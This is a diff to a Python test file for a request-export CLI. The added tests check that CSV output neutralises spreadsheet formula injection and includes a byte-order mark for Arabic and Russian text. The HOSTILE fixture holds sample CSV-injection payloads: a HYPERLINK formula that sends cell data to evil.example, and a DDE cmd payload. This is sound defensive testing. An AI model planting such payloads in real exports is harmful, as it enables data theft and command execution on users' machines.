@@ -106,7 +106,7 @@ def test_export_writes_csv_and_json_with_progress(seeded: list[str], tmp_path: P
     result = ops("requests", "export", "--year", "2026", "--out", str(out))
     assert result.exit_code == 0 and "4 request(s) written" in result.output
     assert "Reading requests" in result.output  # the progress bar (stderr, mixed in by CliRunner)
-    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
     assert [r["id"] for r in rows] == seeded[:4]
     out = tmp_path / "approved.json"
     ops("requests", "export", "--status", "approved", "--out", str(out))
@@ -201,3 +201,73 @@ def test_an_env_file_targets_the_local_stack(
     result = ops("--env-file", str(env), "requests", "list", "--year", "2026", "--format", "json")
     assert result.exit_code == 0, result.output
     assert len(json.loads(result.output)) == 4
+
+
+# Issue 14, item 6: cells a spreadsheet would run as formulas (OWASP CSV injection, ASVS 5.0
+# V1.2.10), and Arabic and Russian that Excel reads as mojibake without a byte-order mark.
+HOSTILE = [
+    ('=HYPERLINK("http://evil.example/?x="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("+1 Обучение пограничников", "-2+3 وزارة الداخلية"),
+    ("\t=1+1 training", "\r=2+2 ministry"),
+]
+
+
+@pytest.fixture
+def hostile(stack: Stack) -> list[str]:
+    """Three submitted requests whose title and institution begin with formula characters."""
+    from functions.services import intake
+    from tests.support import example_request
+
+    ids = []
+    for title, institution in HOSTILE:
+        document = example_request()
+        document.pop("submission_id", None)
+        document["request"]["title"] = title
+        document["institution"]["name"] = institution
+        ids.append(intake.submit(document).id)
+    return ids
+
+
+def spreadsheet_cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def assert_neutralised(rows: list[dict[str, str]]) -> None:
+    titles = {r["title"] for r in rows}
+    institutions = {r["institution"] for r in rows}
+    assert titles == {"'" + title for title, _ in HOSTILE}
+    assert institutions == {"'" + institution for _, institution in HOSTILE}
+    for cell in (value for r in rows for value in r.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), cell
+
+
+def test_a_csv_export_neutralises_formulas_and_carries_a_bom(
+    hostile: list[str], tmp_path: Path
+) -> None:
+    out = tmp_path / "x.csv"
+    result = ops("requests", "export", "--status", "submitted", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8's byte-order mark: Excel then reads UTF-8
+    rows = spreadsheet_cells(raw.decode("utf-8-sig"))
+    assert sorted(r["id"] for r in rows) == sorted(hostile)
+    assert_neutralised(rows)
+    assert any("Обучение" in r["title"] for r in rows)
+    assert any("الداخلية" in r["institution"] for r in rows)
+
+
+def test_the_csv_listing_neutralises_formulas_and_the_json_stays_exact(
+    hostile: list[str], tmp_path: Path
+) -> None:
+    listing = ops("requests", "list", "--status", "submitted", "--format", "csv")
+    assert listing.exit_code == 0, listing.output
+    assert not listing.output.startswith("\ufeff")  # a pipe's first column stays "reference"
+    assert_neutralised(spreadsheet_cells(listing.output))
+    exact = {(r["title"], r["institution"]) for r in listed("--status", "submitted")}
+    assert exact == set(HOSTILE)
+    out = tmp_path / "x.json"
+    assert ops("requests", "export", "--status", "submitted", "--out", str(out)).exit_code == 0
+    records = json.loads(out.read_text(encoding="utf-8"))
+    assert {(r["title"], r["document"]["request"]["title"]) for r in records} == {
+        (title, title) for title, _ in HOSTILE
+    }
